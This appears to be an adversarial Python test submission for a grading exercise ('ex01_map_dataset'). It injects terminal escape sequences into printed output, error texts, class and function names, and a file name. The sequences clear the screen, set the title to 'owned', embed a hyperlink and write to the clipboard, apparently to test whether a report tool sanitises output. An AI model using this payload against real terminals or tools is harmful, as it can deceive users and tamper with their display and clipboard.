# attack: puts escape sequences into all that a report shows: prints, error texts, names of classes, functions, types, keys and files, source lines
# exercise: ex01_map_dataset
import os
import sys

CSI, OSC, C1 = "\x1b[2J\x1b[H\x1b[8m\x1b[1;32m", "\x1b]0;owned\x07\x1b]8;;http://x.y\x07click\x1b]8;;\x07\x1b]52;c;b3duZWQ=\x07", "\x9b2J\x9d0;owned\x9c\x90q\x9c"
EVIL = f"{CSI}{OSC}{C1}\r\v\f\b\x7f\0\x85\u2028\u2029\x1c\x1d\x1e"
os.write(1, EVIL.encode() + b"\xff\x1b[31m\x80\x9b31m\n")
print(EVIL, "TRIED", file=sys.stderr)
Type = type(EVIL.replace("\0", ""), (Exception,), {"__len__": lambda self: 7, "__getitem__": lambda self, index: {EVIL: [EVIL, EVIL.encode()]}})


def evil(*args, **kwargs):  # a comment with [2J in it
    raise Type(EVIL)  # ]0;owned


evil.__code__ = evil.__code__.replace(co_name=EVIL)
TabularDataset = lambda *args, **kwargs: Type()


class ImageFileDataset:
    def __init__(self, *args, **kwargs):
        open(os.path.join("lists", EVIL.replace("\0", "")[:60]), "w")
        evil()
